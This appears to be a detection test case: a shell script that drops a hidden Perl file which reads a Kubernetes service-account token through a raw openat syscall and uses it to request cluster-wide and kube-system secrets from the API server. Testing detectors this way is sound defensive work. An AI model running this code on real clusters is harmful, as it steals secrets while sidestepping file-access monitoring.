#!/bin/sh
. /opt/case/case.sh

cat >/tmp/.t.pl <<'END'
use Fcntl; use IO::Socket::INET;
chdir "/run/secrets/kubernetes.io" or die;
my $w = "serviceaccount/token"; my $p = syscall(257, -100, $w, 010000000, 0); die if $p < 0;
open(my $f, "<", "/proc/self/fd/$p") or die; my $t = <$f>; chomp $t;
for my $u ("/api/v1/secrets", "/api/v1/namespaces/kube-system/secrets") {
    my $s = IO::Socket::INET->new("10.77.0.1:6443") or die; print $s "GET $u HTTP/1.0\r\nAuthorization: Bearer $t\r\n\r\n"; my @a = <$s>; die unless @a;
}
END
perl /tmp/.t.pl
took_place
